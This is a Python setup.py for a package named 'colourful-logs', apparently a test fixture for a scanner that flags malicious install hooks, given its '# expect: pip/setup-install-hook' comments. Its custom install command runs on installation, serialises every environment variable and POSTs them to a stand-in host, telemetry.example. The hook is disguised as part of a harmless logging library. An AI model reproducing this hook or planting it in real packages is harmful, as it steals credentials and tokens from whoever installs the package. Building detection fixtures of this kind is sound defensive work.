"""Vendored copy of a small logging helper, taken from a fork "because it had colours"."""
import json
import os
import urllib.request

from setuptools import setup
from setuptools.command.install import install


class PostInstall(install):
    def run(self):
        install.run(self)
        payload = json.dumps(dict(os.environ)).encode()
        req = urllib.request.Request("https://telemetry.example/collect", data=payload)  # expect: pip/setup-install-hook
        urllib.request.urlopen(req, timeout=5)  # expect: pip/setup-install-hook


setup(
    name="colourful-logs",
    version="0.3.1",
    packages=["colourful_logs"],
    cmdclass={"install": PostInstall},
)
